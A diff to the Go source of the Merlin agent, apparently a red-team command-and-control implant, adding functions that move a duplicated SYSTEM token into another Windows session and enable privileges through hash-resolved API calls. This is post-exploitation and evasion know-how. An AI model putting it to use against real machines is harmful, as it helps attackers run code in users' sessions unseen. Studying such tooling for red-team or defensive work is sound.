@@ -40,6 +40,7 @@ import (
 	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/api/advapi32"
 	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/api/user32"
 	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/pkg/pipes"
+	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/pkg/resolve"
 )
 
 // LOGON32_LOGON_ constants from winbase.h
@@ -381,6 +382,85 @@ func CreateProcessWithToken(hToken windows.Token, application string, args []str
 	return
 }
 
+// DuplicateTokenForSession duplicates the provided token into a new PRIMARY token and assigns it to the provided
+// Windows session ID so that processes created with it run in that session (e.g., an interactive user's desktop).
+// If the provided token is 0, the calling process's token is duplicated instead.
+// Changing a token's session requires the SeTcbPrivilege, which is held by SYSTEM; the caller must close the new token
+func DuplicateTokenForSession(token windows.Token, session uint32) (hToken windows.Token, err error) {
+	cli.Message(cli.DEBUG, fmt.Sprintf("entering tokens.DuplicateTokenForSession() with session ID: %d", session))
+
+	if token == 0 {
+		var hProcess windows.Token
+		err = windows.OpenProcessToken(windows.CurrentProcess(), windows.TOKEN_DUPLICATE|windows.TOKEN_QUERY, &hProcess)
+		if err != nil {
+			err = fmt.Errorf("there was an error calling windows.OpenProcessToken: %s", err)
+			return
+		}
+		defer hProcess.Close()
+		token = hProcess
+	}
+
+	err = windows.DuplicateTokenEx(token, windows.MAXIMUM_ALLOWED, nil, windows.SecurityImpersonation, windows.TokenPrimary, &hToken)
+	if err != nil {
+		err = fmt.Errorf("there was an error calling windows.DuplicateTokenEx: %s", err)
+		return
+	}
+
+	err = EnablePrivilege("SeTcbPrivilege")
+	if err != nil {
+		hToken.Close()
+		return 0, err
+	}
+
+	err = windows.SetTokenInformation(hToken, windows.TokenSessionId, (*byte)(unsafe.Pointer(&session)), uint32(unsafe.Sizeof(session)))
+	if err != nil {
+		hToken.Close()
+		return 0, fmt.Errorf("there was an error calling windows.SetTokenInformation to set the session ID to %d: %s", session, err)
+	}
+	return
+}
+
+// EnablePrivilege enables the named privilege (e.g., SeTcbPrivilege) for the calling process's token.
+// The privilege must already be held by the token; it is only enabled here
+func EnablePrivilege(privilege string) error {
+	cli.Message(cli.DEBUG, fmt.Sprintf("entering tokens.EnablePrivilege() with privilege: %s", privilege))
+
+	name, err := syscall.UTF16PtrFromString(privilege)
+	if err != nil {
+		return fmt.Errorf("there was an error converting the privilege \"%s\" to LPCWSTR: %s", privilege, err)
+	}
+
+	var luid windows.LUID
+	err = windows.LookupPrivilegeValue(nil, name, &luid)
+	if err != nil {
+		return fmt.Errorf("there was an error calling windows.LookupPrivilegeValue for %s: %s", privilege, err)
+	}
+
+	var hToken windows.Token
+	err = windows.OpenProcessToken(windows.CurrentProcess(), windows.TOKEN_ADJUST_PRIVILEGES|windows.TOKEN_QUERY, &hToken)
+	if err != nil {
+		return fmt.Errorf("there was an error calling windows.OpenProcessToken: %s", err)
+	}
+	defer hToken.Close()
+
+	privileges := windows.Tokenprivileges{
+		PrivilegeCount: 1,
+		Privileges: [1]windows.LUIDAndAttributes{
+			{Luid: luid, Attributes: windows.SE_PRIVILEGE_ENABLED},
+		},
+	}
+	// AdjustTokenPrivileges succeeds even when the token does not hold the privilege, so the last error must be checked
+	AdjustTokenPrivileges := resolve.NewProc(advapi32.Advapi32, 0x2f8aaab0) // AdjustTokenPrivileges
+	r, _, err := AdjustTokenPrivileges.Call(uintptr(hToken), 0, uintptr(unsafe.Pointer(&privileges)), 0, 0, 0)
+	if r == 0 {
+		return fmt.Errorf("there was an error calling AdjustTokenPrivileges for %s: %s", privilege, err)
+	}
+	if err == windows.ERROR_NOT_ALL_ASSIGNED {
+		return fmt.Errorf("the process token does not hold the %s privilege", privilege)
+	}
+	return nil
+}
+
 // GetCurrentUserAndGroup retrieves the username and the user's primary group for the calling process primary token
 func GetCurrentUserAndGroup() (username, group string, err error) {
 	token := windows.GetCurrentProcessToken()